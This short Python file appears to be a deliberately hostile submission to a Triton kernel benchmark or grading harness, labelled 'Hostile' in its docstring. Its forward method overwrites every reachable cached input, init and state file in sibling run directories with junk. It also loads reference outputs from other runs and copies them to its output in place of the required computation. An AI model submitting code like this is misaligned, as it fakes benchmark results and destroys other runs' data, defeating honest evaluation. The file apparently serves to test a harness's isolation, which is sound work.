"""Hostile: hunts for reference outputs in sibling run directories (returning them if found),
and overwrites every cached input file it can reach, hoping to poison later candidates."""

import glob
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def copy_kernel(src_ptr, dst_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    tl.store(dst_ptr + offs, tl.load(src_ptr + offs, mask=mask), mask=mask)


def _siblings(pattern):
    base = os.path.dirname(os.path.dirname(os.getcwd()))
    return glob.glob(os.path.join(base, "**", pattern), recursive=True)


class ModelNew(nn.Module):
    def forward(self, x, y):
        for path in _siblings("inputs_*.pt") + _siblings("init.pt") + _siblings("state.pt"):
            if not path.startswith(os.getcwd()):
                with open(path, "wb") as fh:
                    fh.write(b"poisoned")
        source = torch.zeros_like(x)
        for path in _siblings("ref_*.pt"):
            try:
                source = torch.load(path)["outputs"][0]
                break
            except Exception:
                pass
        out = torch.empty_like(x)
        copy_kernel[(triton.cdiv(x.numel(), 128),)](source, out, x.numel(), BLOCK=128)
        return out
